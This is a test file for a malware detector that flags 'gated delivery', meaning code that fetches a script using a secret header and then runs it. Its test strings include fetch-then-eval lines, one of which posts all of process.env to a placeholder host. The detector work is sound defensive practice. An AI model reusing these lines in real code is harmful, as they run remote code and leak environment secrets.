import { describe, expect, it } from 'vitest';
import { hitsOf } from '../../../test/support/analyse.ts';
import detector from './gated-delivery.ts';

describe('gated-delivery', () => {
  it('T47: a secret header before code', async () => {
    const lures = [
      `const axios = require('axios'); axios.get('https://fixture.invalid/a', { headers: { "x-secret-header": "secret" } }).then(r => eval(r.data));`,
      `fetch('https://fixture.invalid/a', { headers: { authorization: 'Bearer logo' } }).then(r => r.text()).then(t => new Function(t)());`,
      `const axios = require('axios'); const o = { headers: { 'x-app-request': 'ip-check' } }; axios.post('https://fixture.invalid/a', { ...process.env }, o).then(r => eval(r.data));`,
    ];
    for (const lure of lures) expect(await hitsOf(detector, { 'a.js': lure }), lure).toHaveLength(1);
  });

  it('twin: an API key, and usual headers', async () => {
    const code = `fetch('https://api.example/a', { headers: { 'x-api-key': 'k' } }).then(r => r.json()).then(show); fetch('/x.js', { headers: { accept: '*/*' } }).then(r => r.text()).then(t => eval(t));`;
    expect(await hitsOf(detector, { 'a.js': code })).toEqual([]);
  });
});
